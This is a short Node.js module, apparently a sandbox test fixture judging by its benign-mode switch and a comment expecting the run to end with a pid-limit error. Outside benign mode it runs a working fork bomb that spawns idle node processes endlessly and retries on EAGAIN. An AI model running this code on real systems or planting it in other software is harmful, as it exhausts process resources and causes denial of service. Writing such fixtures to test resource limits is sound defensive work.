// Fork bomb: spawn node children that idle, as fast as possible, forever.
// Must end -32006 pids.
const { spawn } = require("child_process");
const proc = require("process");

async function process(context) {
    if (context.getInput("mode") === "benign") return { ok: true };
    for (;;) {
        try {
            const child = spawn(proc.execPath, ["-e", "setInterval(() => {}, 1e6)"],
                                { stdio: "ignore" });
            child.on("error", () => {});
        } catch (err) {
            // EAGAIN: keep trying, like a real bomb
        }
        await new Promise((resolve) => setImmediate(resolve));
    }
}

module.exports = { process };
